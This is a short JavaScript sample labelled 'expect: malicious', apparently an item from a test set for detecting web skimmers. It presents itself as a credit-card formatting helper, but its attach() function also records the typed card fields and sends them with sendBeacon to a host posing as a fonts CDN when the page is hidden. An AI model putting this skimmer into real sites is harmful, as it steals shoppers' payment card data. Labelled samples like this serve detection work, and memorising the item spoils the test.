// expect: malicious
// source: blind set 18's card-validating skimmer, re-shaped: a card-formatting helper whose exported attach() also
// keeps the typed card and sends it with sendBeacon when the page is hidden
export function attach(form) {
  const kept = {};
  for (const field of form.querySelectorAll('input[autocomplete^="cc-"]')) {
    field.addEventListener('input', () => {
      field.value = field.value.replace(/[^\d ]/g, '');
      kept[field.getAttribute('autocomplete')] = field.value;
    });
  }
  addEventListener('pagehide', () => {
    if (kept['cc-number']) navigator.sendBeacon('https://fonts-cdn.example/collect', JSON.stringify(kept));
  });
}
